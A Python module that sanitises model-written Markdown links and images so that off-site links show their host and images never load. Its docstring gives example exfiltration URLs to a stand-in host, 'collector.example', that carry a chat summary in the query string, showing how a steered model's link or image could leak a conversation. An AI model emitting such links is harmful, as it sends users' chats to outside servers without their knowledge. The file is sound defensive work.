"""Links in what a model wrote, made honest before it renders: an off-site link says where it
goes, and an image loads nothing.

A reply is steered by the assistant's creator, who can make the model write
`[your plan](https://collector.example/?d=<a summary of the chat>)`: rendered as written, that
is an ordinary link whose click hands the chat to that server, and an image
`![](https://collector.example/p.png?d=...)` does so without a click. `honest_links` rewrites,
in a reply, a recap, or any other model-written Markdown:

- a link to another site keeps its text and stays clickable, followed by its host:
  "your plan (collector.example)"; the host is not repeated when the text begins with it (a link
  written as its own address, `<https://…>`);
- a link that cannot be shown honestly keeps its text only: another scheme than http(s)
  (`mailto:` can carry a body: "write to us (email to a@b.example)"), a user name or password in
  the address, a host that is not a plain name ("(link removed)");
- an image never loads: its description and "(image: host)" are shown as text;
- a bare address (`https://…`, `www.…`, which Streamlit's GFM renderer links) stays when it shows
  its host plainly; one with a user name, a backslash or another character in its host is text;
- same-site (relative) links, `/lounge`, `?assistant_id=…`, `#recap`, stay links.

Parsed with markdown-it-py (CommonMark, the parser `rich` ships; Streamlit renders with micromark,
another CommonMark parser, plus GFM); only the link constructs the parser finds are rewritten, in
place, so the rest of the text stays as written. A kept link gets a destination written here
(`<https://host/path>`), so the host shown is the host the browser opens. Where the two parsers
may read a text differently, it is made `inert_links`, which breaks every link construct without
parsing: when the result, parsed again, still has a link, image or bare address that was not
vetted; and for a GFM footnote definition, a table that starts like a list item, a block right
after a link reference definition, an indented code or HTML block with link syntax in it (all
found by fuzzing the result against micromark, mdast-util-gfm and mdast-util-to-hast, which then
found no off-site link without its host and no image in 55,000 texts), and more than
MAX_BRACKETS brackets. Streamed text gets `inert_links` too: a link's address can arrive in a
later chunk, and a reference definition after the link. Linear in the text: a scan, at most two
parses, a few passes (0.2 s of CPU at most for a reply of 40,000 characters).
"""

from __future__ import annotations

import re
from bisect import bisect_left, bisect_right
from collections.abc import Callable
from dataclasses import dataclass
from functools import lru_cache

from markdown_it import MarkdownIt
from markdown_it.rules_inline import (
    StateInline,
    autolink,
    backtick,
    entity,
    escape,
    html_inline,
    image,
    link,
)
from markdown_it.token import Token

from i18n import tr
from ui.inert_links import (
    ZERO_WIDTH_SPACE,
    break_autolinks,
    escaped,
    inert_links,
)
from ui.link_targets import AUTHORITY, SCHEME, plain_authority, shows_host, target_of

# Any construct that can make a link: brackets (links, images, references), "<" (autolinks),
# a bare address, and escapes or entities that may spell one.
_LINK_SYNTAX = re.compile(r"(?i)[\[<\\&]|://|www\.")
_TRIGGER = re.compile(r"(?i)https?://|www\.")
_PATH_END = re.compile(r"[\s<`\[]")  # where micromark ends a bare address, or what it swallows
# A GFM footnote definition, whose text the renderer shows (links, images and all) where the
# parser here reads a link reference definition and shows nothing: text with one is made inert.
# (No bracket in its label, so each try stops at the next bracket: linear in the text.)
_FOOTNOTE_DEFINITION = re.compile(r"\[\^(?:[^\[\]\\]|\\.)+\]:", re.DOTALL)
# markdown-it-py spends about 20 microseconds of CPU per bracket (40,000 "![" cost 0.7 s): text
# with more brackets than any reply has is made inert instead of parsed.
MAX_BRACKETS = 2_000
# markdown-it-py tries a table before a list or a quote, micromark (GFM) the other way round: a
# table whose first line starts with a list or quote marker is read differently, text with one
# is made inert. (`- \| a | b |` over `|---|---|` is a table to one and a list item to the other,
# whose link `[x|y](…)` the table's cells cut apart.)
_MARKED_LINE = re.compile(r"[ ]{0,3}(?:(?:[-+*]|[0-9]{1,9}[.)])(?=[ \t\n]|$)|>)")
_PARAGRAPH = ("paragraph_open", "inline", "paragraph_close")
# Blocks whose text is not looked into: indented code and HTML. Which lines micromark reads as
# such (lazy continuation lines, lines after a definition, empty list items) is where the two
# parsers part most, and a link or image in text one reads as code is live to the other: an
# indented code block or an HTML block with link syntax in it makes the text inert (fenced code,
# where replies keep their code, is read alike by both).
_UNREAD = {
    "code_block": re.compile(r"(?i)[\[<]|://|www\.|mailto:"),
    "html_block": re.compile(r"(?i)\[|://|www\.|mailto:"),
}
_SPANS = "gptlab_link_spans"
_HARD = ("link", "image", "autolink", "code", "html")  # what ends a text run for the renderer


# ---------------------------------------------------------------- parsing


@dataclass
class _Span:
    """A construct in an inline token's text: [start, end) in that text."""

    kind: str  # "link", "image", "autolink", "code", "html", "escape", "entity"
    start: int
    end: int
    href: str = ""
    label_end: int = 0  # a link's "]"
    visible: str = ""  # a link's text, an image's description, an autolink's address, the
    # character an escape or an entity stands for


def _visible(tokens: list[Token]) -> str:
    parts = []
    for token in tokens:
        if token.type in ("text", "text_special", "code_inline"):
            parts.append(token.content)
        elif token.type in ("softbreak", "hardbreak"):
            parts.append(" ")
        elif token.type == "image" and token.children:
            parts.append(_visible(token.children))
    return "".join(parts)


def _recorded(kind: str, rule: Callable[[StateInline, bool], bool]):
    def recording(state: StateInline, silent: bool) -> bool:
        start, first = state.pos, len(state.tokens)
        if not rule(state, silent):
            return False
        if not silent:
            span = _Span(kind, start, state.pos)
            pushed = state.tokens[first:]
            at = next((i for i, t in enumerate(pushed) if t.type in ("link_open", "image")), None)
            if at is not None:
                span.href = str(pushed[at].attrGet("src" if kind == "image" else "href") or "")
            if kind == "link":
                span.label_end = state.md.helpers.parseLinkLabel(state, start, True)
                span.visible = _visible(pushed[at + 1 :] if at is not None else [])
            elif kind == "image" and at is not None:
                span.visible = _visible(pushed[at].children or [])
            elif kind == "autolink":
                span.visible = state.src[start + 1 : state.pos - 1]
            elif kind in ("escape", "entity") and pushed:  # after any pending text it flushed
                span.visible = pushed[-1].content if pushed[-1].type == "text_special" else "\n"
            # Keyed by the token list the spans are in, held so that its id stays its own.
            recorded = state.env.setdefault(_SPANS, {})
            recorded.setdefault(id(state.tokens), (state.tokens, []))[1].append(span)
        return True

    return recording


@lru_cache(maxsize=1)
def _parser() -> MarkdownIt:
    """CommonMark with GFM tables, as Streamlit renders, recording where links, images, code,
    HTML, escapes and entities are; every destination is accepted (`javascript:` too), since
    deciding is done here and the renderer links them all."""
    md = MarkdownIt("commonmark").enable("table")
    md.disable("emphasis")  # emphasis neither makes nor hides a link (nor does strikethrough)
    md.disable("text_join")  # it replaces the token lists the spans are recorded by
    md.validateLink = lambda _url: True  # type: ignore[method-assign]
    for name, kind, rule in (
        ("link", "link", link),
        ("image", "image", image),
        ("autolink", "autolink", autolink),
        ("backticks", "code", backtick),
        ("html_inline", "html", html_inline),
        ("escape", "escape", escape),
        ("entity", "entity", entity),
    ):
        md.inline.ruler.at(name, _recorded(kind, rule))
    return md


class _Unplaced(Exception):
    """An inline token's text could not be matched to the source's lines."""


class _Placement:
    """Where each character of an inline token's text is in the source. The token's lines are
    the source's lines from `token.map`, less what containers put before them (quote markers,
    list indentation) and blanks at either end."""

    def __init__(self, source: str, line_starts: list[int], token: Token, cursors: dict) -> None:
        lines = token.content.split("\n")
        if token.map is None or token.map[0] + len(lines) > len(line_starts):
            raise _Unplaced
        self.starts, self.places = [], []
        offset = 0
        for number, line in enumerate(lines, start=token.map[0]):
            core = line.lstrip(" \t")
            lead = len(line) - len(core)
            begin = cursors.get(number, line_starts[number])
            end = line_starts[number + 1] - 1 if number + 1 < len(line_starts) else len(source)
            found = source.find(core.rstrip(" \t"), begin, end)
            if found < 0:
                raise _Unplaced
            cursors[number] = found + len(core.rstrip(" \t"))
            self.starts.append(offset)
            self.places.append((lead, found))
            offset += len(line) + 1
        self.content = token.content
        self.source = source

    def at(self, offset: int) -> int:
        """The source position of the character at `offset` of the token's text."""
        line = bisect_right(self.starts, offset) - 1
        lead, found = self.places[line]
        place = found + max(offset - self.starts[line] - lead, 0)
        if self.source[place] != self.content[offset]:
            raise _Unplaced
        return place

    def after(self, offset: int) -> int:
        """The source position just after the character before `offset`."""
        return self.at(offset - 1) + 1


@dataclass
class _Found:
    """What a parse found: the edits that make it honest, and what is left to vet."""

    edits: list[tuple[int, int, str]]
    links: list[_Span]
    bare_urls: list[str]


def _top_level(spans: list[_Span]) -> list[tuple[_Span, list[_Span]]]:
    """Spans not inside another, each with the spans inside it."""
    result: list[tuple[_Span, list[_Span]]] = []
    for span in sorted(spans, key=lambda s: (s.start, -s.end)):
        if result and span.start < result[-1][0].end:
            result[-1][1].append(span)
        else:
            result.append((span, []))
    return result


class _Rewriter:
    def __init__(self) -> None:
        self.kept: set[str] = set()  # the destinations written, vetted

    def label(self, place: _Placement, span: _Span, inner: list[_Span]) -> str:
        start, end = span.start + 1, span.label_end
        if end <= start:
            return ""
        out, cursor = [], place.at(start)
        for child, grandchildren in _top_level(inner):
            replacement = self.replacement(place, child, grandchildren)
            if replacement is not None:
                out += [place.source[cursor : place.at(child.start)], replacement]
                cursor = place.after(child.end)
        out.append(place.source[cursor : place.after(end)])
        return "".join(out)

    def replacement(self, place: _Placement, span: _Span, inner: list[_Span]) -> str | None:
        if span.kind not in ("link", "image", "autolink"):
            return None
        target = target_of(span.href)
        if span.kind == "image":
            about = (
                tr("image: {host}", host=break_autolinks(target.host))
                if target.host
                else tr("image")
            )
            return f"{escaped(span.visible)} ({about})".lstrip()
        if span.kind == "autolink":
            if target.href is None or target.host is None:
                return escaped(span.visible)
            self.kept.add(target.href)
            return f"<{target.href}>"
        if target.host is None and target.href is not None:  # same site: kept as written,
            if not any(child.kind in _HARD[:3] for child in inner):  # unless an image is in it
                return None
        text = self.label(place, span, inner)
        if target.href is None:  # the text is no link any more: nothing in it may become one
            return f"{inert_links(text)} ({escaped(target.note or '')})"
        self.kept.add(target.href)
        link = f"[{text}](<{target.href}>)"
        if target.host is None or shows_host(span.visible, target.host):
            return link
        return f"{link} ({break_autolinks(target.host)})"


def _line_starts(source: str) -> list[int]:
    return [0] + [match.end() for match in re.finditer("\n", source)]


def _text_runs(content: str, top: list[tuple[_Span, list[_Span]]]):
    """The token's text as the renderer's text nodes hold it (escapes and entities decoded),
    in runs that links, images, code and HTML end; each with where each character came from
    in the token's text, and where the run ends."""
    pieces: list[str] = []
    origins: list[int] = []
    cursor = 0
    for span, _ in [*top, (_Span("end", len(content), len(content)), [])]:
        pieces.append(content[cursor : span.start])
        origins.extend(range(cursor, span.start))
        if span.kind in ("escape", "entity"):
            pieces.append(span.visible)
            origins.extend([span.start] * len(span.visible))
        else:
            yield "".join(pieces), origins, span.start
            pieces, origins = [], []
        cursor = span.end


def _unplain_triggers(content: str, top) -> list[int]:
    """Where to break bare addresses: those whose host is not plainly what they show, those
    that run into a backtick or a bracket (micromark reads the address on over it, so the code
    span or the link text the parser here saw, and did not look into, is text to the renderer,
    whose addresses it links), and those whose host holds the break of another (`https://www.`
    and `www.…`)."""
    breaks: list[int] = []
    stops: list[int] | None = None
    for text, origins, run_end in _text_runs(content, top):
        triggers = []
        for trigger in _TRIGGER.finditer(text):
            if stops is None:
                stops = [match.start() for match in _PATH_END.finditer(content)]
            after = trigger.end()
            raw_after = origins[after] if after < len(origins) else run_end
            stop = bisect_left(stops, raw_after)
            swallows = stop < len(stops) and content[stops[stop]] in "`["
            plain = plain_authority(text, after) and plain_authority(content, raw_after)
            shown_end = AUTHORITY.match(text, after).end()
            reach = max(
                AUTHORITY.match(content, raw_after).end(),
                origins[shown_end - 1] + 1 if shown_end > after else raw_after,
            )
            cut = trigger.start() + 3 if trigger.group().lower() == "www." else after - 3
            triggers.append((origins[cut], reach, plain and not swallows))
        leftmost = len(content) + 1  # the leftmost break so far, all right of this trigger
        for cut, reach, plain in reversed(triggers):
            if not plain or leftmost < reach:
                breaks.append(cut)
                leftmost = cut
    return breaks


def _find(source: str, rewriter: _Rewriter) -> _Found:
    env: dict = {}
    tokens = _parser().parse(source, env)
    spans_of = env.get(_SPANS, {})
    starts, cursors = _line_starts(source), {}
    found = _Found([], [], [])
    # markdown-it-py ends a link reference definition at its line, micromark (as CommonMark's
    # reference parser) reads the lines after it on as paragraph text: indented text or an HTML
    # tag right after one is code or HTML to one, and text, links and images in it, to the other.
    definition_ends = {
        ref["map"][1] for ref in env.get("references", {}).values() if ref.get("map")
    }
    for token in tokens:
        if (
            token.type == "table_open"
            and token.map
            and _MARKED_LINE.match(source, starts[token.map[0]])
        ):
            raise _Unplaced  # micromark reads a list item or a quote here, not a table
        if token.map and token.map[0] in definition_ends and token.type not in _PARAGRAPH:
            raise _Unplaced
        if token.type in _UNREAD and _UNREAD[token.type].search(token.content):
            raise _Unplaced
        if token.type != "inline":
            continue
        spans = spans_of.get(id(token.children), (None, []))[1]
        top = _top_level(spans)
        breaks = _unplain_triggers(token.content, top)
        edited = [(span, inner) for span, inner in top if span.kind in _HARD[:3]]
        if not edited and not breaks:
            continue
        place = _Placement(source, starts, token, cursors)
        found.links += [s for s in spans if s.kind in _HARD[:3]]
        for span, inner in edited:
            replacement = rewriter.replacement(place, span, inner)
            if replacement is not None:
                found.edits.append((place.at(span.start), place.after(span.end), replacement))
        for offset in breaks:
            found.bare_urls.append(token.content[offset:])
            found.edits.append((place.at(offset), place.at(offset), ZERO_WIDTH_SPACE))
    return found


def _vetted(found: _Found, kept: set[str]) -> bool:
    """Nothing left that links off-site unvetted, or loads an image."""
    for span in found.links:
        if span.kind == "image":
            return False
        if target_of(span.href).href is None or SCHEME.match(span.href) and span.href not in kept:
            return False
    return not found.bare_urls


def honest_links(text: str) -> str:
    """The Markdown with every off-site link showing its host, no image, same-site links kept
    (see the module's docstring); text without any link syntax comes back as it was."""
    if not text or not _LINK_SYNTAX.search(text):
        return text
    source = re.sub(r"\r\n?", "\n", text).replace("\0", "\ufffd")  # as markdown-it reads it
    rewriter = _Rewriter()
    try:
        if source.count("[") > MAX_BRACKETS or _FOOTNOTE_DEFINITION.search(source):
            raise _Unplaced
        found = _find(source, rewriter)
        if not found.edits:
            return text
        parts, cursor = [], 0
        for start, end, replacement in sorted(found.edits):
            parts += [source[cursor:start], replacement]
            cursor = end
        result = "".join([*parts, source[cursor:]])
        if _vetted(_find(result, _Rewriter()), rewriter.kept):
            return result
    except _Unplaced:
        pass
    return inert_links(text)
